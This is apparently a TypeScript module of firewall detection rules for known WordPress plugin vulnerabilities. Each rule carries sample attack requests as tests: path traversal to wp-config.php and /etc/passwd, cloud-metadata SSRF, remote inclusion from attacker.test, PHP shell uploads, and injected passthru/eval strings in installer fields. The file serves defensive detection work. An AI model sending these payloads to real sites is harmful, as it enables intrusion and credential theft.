import { filePost, formPost, get, jsonPost, send } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  bodyHas,
  bodyMatches,
  decodedQueryHas,
  EXECUTABLE,
  fieldHas,
  fieldIs,
  fieldMatches,
  hasField,
  headerHas,
  methodIs,
  not,
  outsideSources,
  pathEnds,
  pathHas,
  queryHas,
} from '../conditions.ts';
import { attack, detection } from '../targeted-rule.ts';

const AJAX = pathHas('/wp-admin/admin-ajax.php');

/** Plugins and themes that upload, include or read files. */
export const wordpressPluginFileRules = [
  detection({
    ref: 'managed-wordpress-file-manager',
    description:
      'WordPress File Manager: uploads files with an unprotected connector (CVE-2020-25213)',
    categories: ['wordpress', 'file-upload', 'remote-code-execution', 'cve-2020-25213'],
    expression: allOf(
      pathHas('/wp-file-manager/lib/php/connector.minimal.php'),
      outsideSources('connector'),
    ),
    matching: [
      filePost('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php', 'a.php'),
      get(
        '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php?cmd=mkfile&target=l1_&name=a.php',
      ),
    ],
    other: [
      get('/ada/wp-file-manager/tree/main/wp-file-manager/lib/php/connector.minimal.php'),

      get('/wp-content/plugins/wp-file-manager/lib/js/elfinder.min.js'),
      formPost('/wp-admin/admin-ajax.php', { action: 'mk_file_folder_manager', cmd: 'open' }),
    ],
  }),
  detection({
    ref: 'managed-wordpress-revslider-file-read',
    description: 'WordPress Slider Revolution: reads any file of the site (CVE-2014-9734)',
    categories: ['wordpress', 'directory-traversal', 'cve-2014-9734'],
    expression: allOf(
      AJAX,
      fieldIs('action', 'revslider_show_image'),
      fieldHas('img', '..', '.php'),
    ),
    matching: [
      get('/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php'),
      get('/wp-admin/admin-ajax.php?action=revslider_show_image&img=..%2f..%2fetc%2fpasswd'),
    ],
    other: [
      get('/wp-admin/admin-ajax.php?action=revslider_show_image&img=slide1.jpg&w=50'),
      get('/wp-admin/admin-ajax.php?action=show_image&img=../logo.png'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-revslider-upload',
    description:
      'WordPress Slider Revolution: uploads an archive as an update of the plugin (CVE-2014-9735)',
    categories: ['wordpress', 'file-upload', 'cve-2014-9735'],
    action: 'log',
    expression: allOf(
      AJAX,
      fieldIs('action', 'revslider_ajax_action', 'showbiz_ajax_action'),
      fieldIs('client_action', 'update_plugin'),
    ),
    matching: [
      formPost('/wp-admin/admin-ajax.php', {
        action: 'revslider_ajax_action',
        client_action: 'update_plugin',
      }),
      formPost('/wp-admin/admin-ajax.php?action=showbiz_ajax_action', {
        client_action: 'update_plugin',
      }),
    ],
    other: [
      formPost('/wp-admin/admin-ajax.php', {
        action: 'revslider_ajax_action',
        client_action: 'get_slides',
      }),
      formPost('/wp-admin/admin-ajax.php', { action: 'update_plugin' }),
    ],
  }),
  detection({
    ref: 'managed-wordpress-duplicator-download',
    description: 'WordPress Duplicator: downloads any file of the site (CVE-2020-11738)',
    categories: ['wordpress', 'directory-traversal', 'cve-2020-11738'],
    expression: allOf(
      AJAX,
      fieldIs('action', 'duplicator_download', 'duplicator_download_installer'),
      fieldHas('file', '..', '/'),
    ),
    matching: [
      get('/wp-admin/admin-ajax.php?action=duplicator_download&file=../wp-config.php'),
      get('/wp-admin/admin-ajax.php?action=duplicator_download&file=%2fetc%2fpasswd'),
    ],
    other: [
      get('/wp-admin/admin-ajax.php?action=duplicator_download&file=20240501_site_archive.zip'),
      get('/wp-admin/admin-ajax.php?action=download&file=../a'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-smtp-log',
    description:
      'WordPress Easy WP SMTP: reads the log of sent mail with links that reset passwords (CVE-2020-35234)',
    categories: ['wordpress', 'information-disclosure', 'cve-2020-35234'],
    expression: allOf(pathHas('/plugins/easy-wp-smtp/'), pathHas('debug_log', '_debug_log.txt')),
    matching: [
      get('/wp-content/plugins/easy-wp-smtp/5fcdb91308506_debug_log.txt'),
      get('/wp-content/plugins/easy-wp-smtp/debug_log.txt'),
    ],
    other: [
      get('/wp-content/plugins/easy-wp-smtp/readme.txt'),
      get('/wp-content/plugins/easy-wp-smtp/css/style.css'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-social-warfare',
    description:
      'WordPress Social Warfare: runs options that it loads from another site (CVE-2019-9978)',
    categories: ['wordpress', 'file-inclusion', 'remote-code-execution', 'cve-2019-9978'],
    expression: allOf(queryHas('swp_url'), fieldIs('swp_debug', 'load_options')),
    matching: [
      get('/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://attacker.test/p.txt'),
      get('/?swp_url=https%3A%2F%2Fattacker.test%2F&swp_debug=load_options'),
    ],
    other: [get('/?swp_url=https://example.com/'), get('/?swp_debug=1')],
  }),
  detection({
    ref: 'managed-wordpress-automatic-fetch',
    description:
      'WordPress Automatic: reads files and internal pages with its downloader (CVE-2024-27954)',
    categories: ['wordpress', 'ssrf', 'directory-traversal', 'cve-2024-27954'],
    expression: allOf(
      queryHas('wp_automatic='),
      fieldIs('wp_automatic', 'download'),
      fieldHas('link', 'file:', '127.0.0.1', 'localhost', '169.254.'),
    ),
    matching: [
      get('/?p=3232&wp_automatic=download&link=file:///etc/passwd'),
      get('/?wp_automatic=download&link=http%3A%2F%2F169.254.169.254%2Flatest'),
    ],
    other: [
      get('/?wp_automatic=cron'),
      get('/?wp_automatic=download&link=https://example.com/a.jpg'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-elementor-upload',
    description: 'WordPress Elementor: installs an uploaded archive as a plugin (CVE-2022-1329)',
    categories: ['wordpress', 'file-upload', 'remote-code-execution', 'cve-2022-1329'],
    action: 'log',
    expression: allOf(AJAX, fieldIs('action', 'elementor_upload_and_install_pro')),
    matching: [
      formPost('/wp-admin/admin-ajax.php', {
        action: 'elementor_upload_and_install_pro',
        _nonce: 'a',
      }),
      filePost(
        '/wp-admin/admin-ajax.php?action=elementor_upload_and_install_pro',
        'elementor-pro.zip',
      ),
    ],
    other: [
      formPost('/wp-admin/admin-ajax.php', { action: 'elementor_ajax', actions: '{}' }),
      get('/wp-admin/plugin-install.php?tab=upload'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-simple-file-list',
    description: 'WordPress Simple File List: renames an uploaded file to PHP (CVE-2020-36847)',
    categories: ['wordpress', 'file-upload', 'remote-code-execution', 'cve-2020-36847'],
    expression: allOf(
      pathHas(
        '/simple-file-list/ee-file-engine.php',
        '/simple-file-list/includes/ee-file-engine.php',
      ),
      fieldMatches('eeFileAction', `^rename\\|.*${EXECUTABLE}`),
    ),
    matching: [
      formPost('/wp-content/plugins/simple-file-list/ee-file-engine.php', {
        eeSFL_ID: '1',
        eeFileOld: 'a.png',
        eeFileAction: 'Rename|a.php',
      }),
      formPost('/wp-content/plugins/simple-file-list/includes/ee-file-engine.php', {
        eeFileAction: 'Rename|b.phtml',
      }),
    ],
    other: [
      formPost('/wp-content/plugins/simple-file-list/ee-file-engine.php', {
        eeFileOld: 'a.png',
        eeFileAction: 'Rename|b.png',
      }),
      get('/wp-content/plugins/simple-file-list/js/ee.js'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-file-include-scripts',
    description:
      'WordPress plugins Site Editor, Mail Masta, Localize My Post, Adaptive Images: include or read a file that an argument names (CVE-2018-7422, CVE-2016-10956, CVE-2018-16299, CVE-2019-14205)',
    categories: [
      'wordpress',
      'file-inclusion',
      'directory-traversal',
      'cve-2018-7422',
      'cve-2016-10956',
      'cve-2018-16299',
      'cve-2019-14205',
    ],
    expression: anyOf(
      allOf(pathHas('/pagebuilder/includes/ajax_shortcode_pattern.php'), hasField('ajax_path')),
      allOf(
        pathHas(
          '/mail-masta/inc/campaign/count_of_send.php',
          '/mail-masta/inc/lists/csvexport.php',
        ),
        hasField('pl'),
      ),
      allOf(pathHas('/localize-my-post/ajax/include.php'), hasField('file')),
      allOf(pathHas('/adaptive-images/adaptive-images-script.php'), queryHas('source_file')),
    ),
    matching: [
      get(
        '/wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?ajax_path=/etc/passwd',
      ),
      get('/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd'),
      get('/wp-content/plugins/localize-my-post/ajax/include.php?file=../../../wp-config.php'),
      get(
        '/wp-content/plugins/adaptive-images/adaptive-images-script.php?adaptive-images-settings[source_file]=../../../wp-config.php',
      ),
    ],
    other: [
      get('/wp-content/plugins/mail-masta/style.css'),
      get('/wp-content/plugins/site-editor/editor/editor.js?ajax_path=x'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-font-upload',
    description:
      'WordPress Tatsu, Kaswara: uploads an archive of fonts that contains PHP (CVE-2021-25094, CVE-2021-24284)',
    categories: [
      'wordpress',
      'file-upload',
      'remote-code-execution',
      'cve-2021-25094',
      'cve-2021-24284',
    ],
    expression: allOf(
      AJAX,
      fieldIs('action', 'add_custom_font', 'uploadfonticon'),
      'lower(http.request.body.raw) contains "filename="',
    ),
    matching: [
      filePost('/wp-admin/admin-ajax.php?action=uploadFontIcon', 'icons.zip'),
      filePost('/wp-admin/admin-ajax.php?action=add_custom_font', 'font.zip', 'PK shell.php'),
    ],
    other: [
      formPost('/wp-admin/admin-ajax.php', { action: 'add_custom_font', name: 'Inter' }),
      filePost('/wp-admin/admin-ajax.php?action=upload-attachment', 'font.zip'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-backup-migration',
    description: 'WordPress Backup Migration: includes a file that a header names (CVE-2023-6553)',
    categories: ['wordpress', 'file-inclusion', 'header', 'remote-code-execution', 'cve-2023-6553'],
    expression: allOf(
      pathHas('/backup-backup/includes/backup-heart.php'),
      headerHas('content-dir', '://', '|', '..'),
    ),
    matching: [
      get('/wp-content/plugins/backup-backup/includes/backup-heart.php', {
        'content-dir': 'php://filter/convert.iconv.UTF8.CSISO2022KR/resource=php://temp',
      }),
      get('/wp-content/plugins/backup-backup/includes/backup-heart.php', {
        'content-dir': 'http://attacker.test/',
      }),
    ],
    other: [
      get('/wp-content/plugins/backup-backup/includes/backup-heart.php', {
        'content-dir': '/var/www/html/wp-content',
      }),
      get('/wp-content/plugins/backup-backup/readme.txt'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-total-cache-file-read',
    description: 'WordPress W3 Total Cache: reads files with a forged notification (CVE-2019-6715)',
    categories: ['wordpress', 'ssrf', 'directory-traversal', 'cve-2019-6715'],
    expression: allOf(
      pathHas('/w3-total-cache/pub/sns.php'),
      bodyHas('subscribeurl'),
      not(bodyMatches('"subscribeurl" *: *"https://sns[.][a-z0-9-]+[.]amazonaws[.]com')),
    ),
    matching: [
      send(
        'PUT',
        '/wp-content/plugins/w3-total-cache/pub/sns.php',
        'application/json',
        '{"Type":"SubscriptionConfirmation","SubscribeURL":"file:///etc/passwd"}',
      ),
      jsonPost('/wp-content/plugins/w3-total-cache/pub/sns.php', {
        Type: 'SubscriptionConfirmation',
        SubscribeURL: 'http://127.0.0.1/',
      }),
    ],
    other: [
      jsonPost('/wp-content/plugins/w3-total-cache/pub/sns.php', {
        Type: 'SubscriptionConfirmation',
        SubscribeURL: 'https://sns.eu-west-1.amazonaws.com/?Action=Confirm',
      }),
      jsonPost('/wp-content/plugins/w3-total-cache/pub/sns.php', {
        Type: 'Notification',
        Message: 'flush',
      }),
    ],
  }),
  detection({
    ref: 'managed-wordpress-withdrawn-upload-scripts',
    description:
      'WordPress Symposium, Work The Flow, Reflex Gallery, InBoundio: upload scripts without any check (CVE-2014-10021, CVE-2015-10138, CVE-2015-4133)',
    categories: [
      'wordpress',
      'file-upload',
      'remote-code-execution',
      'cve-2014-10021',
      'cve-2015-10138',
      'cve-2015-4133',
    ],
    expression: allOf(
      pathHas(
        '/wp-symposium/server/php/',
        '/work-the-flow-file-upload/public/assets/jquery-file-upload',
        '/reflex-gallery/admin/scripts/fileuploader/php.php',
        '/inboundio-marketing/admin/partials/csv_uploader.php',
      ),
      methodIs('POST'),
    ),
    matching: [
      filePost('/wp-content/plugins/wp-symposium/server/php/index.php', 'a.php'),
      filePost(
        '/wp-content/plugins/reflex-gallery/admin/scripts/FileUploader/php.php?Year=2024&Month=05',
        'a.php',
      ),
    ],
    other: [
      get('/wp-content/plugins/wp-symposium/css/style.css'),
      filePost('/wp-admin/async-upload.php', 'photo.jpg'),
    ],
  }),
  attack({
    ref: 'managed-wordpress-plugin-file-read',
    description: 'WordPress plugins: reads files outside of the folder of a plugin or theme',
    categories: ['wordpress', 'directory-traversal', 'file-inclusion'],
    finds: {
      families: ['traversal', 'file-inclusion', 'restricted-file'],
      strengths: ['likely', 'clear'],
      places: ['query', 'form'],
    },
    expression: allOf(pathHas('/wp-content/plugins/', '/wp-content/themes/'), pathHas('.php')),
    matching: [
      get('/wp-content/plugins/downloads/get.php?file=../../../wp-config.php'),
      get('/wp-content/themes/magazine/download.php?path=../../../../../etc/passwd'),
    ],
    other: [
      get('/wp-content/plugins/downloads/get.php?file=2024/report.pdf'),
      get('/wp-content/themes/magazine/download.php?path=cover.jpg'),
    ],
  }),
  attack({
    ref: 'managed-wordpress-ajax-file-read',
    description: 'WordPress plugins: reads files of the server with an AJAX action',
    categories: ['wordpress', 'directory-traversal', 'file-inclusion'],
    finds: {
      families: ['traversal', 'file-inclusion', 'restricted-file'],
      strengths: ['likely', 'clear'],
      places: ['query'],
    },
    expression: pathHas('/wp-admin/admin-ajax.php', '/wp-admin/admin-post.php'),
    matching: [
      get('/wp-admin/admin-ajax.php?action=get_file&name=../../../../../../etc/passwd'),
      get('/wp-admin/admin-post.php?action=export&path=..%2f..%2f..%2f..%2fetc%2fpasswd'),
    ],
    other: [
      get('/wp-admin/admin-ajax.php?action=get_file&name=logo.png'),
      get('/wp-admin/admin-ajax.php?action=rest-nonce'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-timthumb-remote-code',
    description: 'WordPress TimThumb: caches a PHP file of another site (CVE-2011-4106)',
    categories: ['wordpress', 'file-inclusion', 'remote-code-execution', 'cve-2011-4106'],
    expression: allOf(
      pathHas('/timthumb.php', '/thumb.php', '/timthumbs.php'),
      fieldMatches('src', `^(?:https?:)?//.*${EXECUTABLE}`),
    ),
    matching: [
      get('/wp-content/themes/old/timthumb.php?src=http://flickr.com.attacker.test/shell.php'),
      get('/wp-content/plugins/box/thumb.php?src=%2F%2Fpicasa.com.attacker.test%2Fa.phtml'),
    ],
    other: [
      get('/wp-content/themes/old/timthumb.php?src=https://img.example.com/cat.jpg&w=100'),
      get('/wp-content/themes/old/timthumb.php?src=/wp-content/uploads/cat.png&h=50'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-installer-code',
    description:
      'WordPress Duplicator: writes PHP into wp-config.php with a forgotten installer (CVE-2018-17207)',
    categories: ['wordpress', 'code-injection', 'cve-2018-17207'],
    expression: allOf(
      pathHas('/installer.php', '/installer-backup.php', '/main.installer.php'),
      anyOf(
        fieldHas('dbhost', "'", '"'),
        fieldHas('dbname', "'", '"'),
        fieldHas('dbuser', "'", '"'),
      ),
    ),
    matching: [
      formPost('/installer.php', {
        action_ajax: '3',
        dbhost: "x');passthru($_GET[0]);//",
        dbname: 'a',
      }),
      formPost('/installer-backup.php', { dbname: "wp');eval($_POST[1]);/*" }),
    ],
    other: [
      formPost('/installer.php', { action_ajax: '3', dbhost: 'localhost', dbname: 'wp' }),
      get('/installer.php'),
    ],
  }),
  detection({
    ref: 'managed-wordpress-upload-of-code',
    description: 'WordPress plugins: uploads a PHP file without authentication (CVE-2020-35489)',
    categories: ['wordpress', 'file-upload', 'remote-code-execution', 'cve-2020-35489'],
    expression: allOf(
      anyOf(
        pathHas('/contact-form-7/', '/wp-content/plugins/', '/wp-admin/admin-post.php'),
        pathEnds('/wp-admin/admin-ajax.php'),
      ),
      uploadsCode(),
    ),
    matching: [
      filePost('/wp-json/contact-form-7/v1/contact-forms/5/feedback', 'cv.php'),
      filePost('/wp-content/plugins/uploader/upload.php', 'a.phtml', '<?php echo 1;'),
      filePost('/wp-admin/admin-ajax.php?action=upload', 'x.php.jpg', '<?php echo 1;'),
    ],
    other: [
      filePost('/wp-json/contact-form-7/v1/contact-forms/5/feedback', 'cv.pdf'),
      filePost('/wp-admin/async-upload.php', 'notes.php.png'),
      formPost('/wp-admin/admin-ajax.php', { action: 'save', file: 'a.php' }),
    ],
  }),
  detection({
    ref: 'managed-wordpress-gravity-forms-upload',
    description: 'WordPress Gravity Forms: stores an uploaded file under another name or folder',
    categories: ['wordpress', 'file-upload', 'remote-code-execution'],
    expression: allOf(
      queryHas('gf_page='),
      decodedQueryHas('gf_page=upload'),
      anyOf(fieldMatches('name', EXECUTABLE), fieldHas('gform_unique_id', '../')),
    ),
    matching: [
      formPost('/?gf_page=upload', { name: 'x.phtml', gform_unique_id: 'a' }),
      formPost('/?gf_page=upload', { name: 'x.jpg', gform_unique_id: '../../../../' }),
    ],
    other: [
      formPost('/?gf_page=upload', { name: 'photo.jpg', gform_unique_id: '5f3a' }),
      get('/?gf_page=preview&id=3'),
    ],
  }),
];

function uploadsCode(): string {
  return `any(lower(http.request.body.multipart.filenames[*][*])[*] matches r"${EXECUTABLE}(?:[^a-z0-9]|$)")`;
}
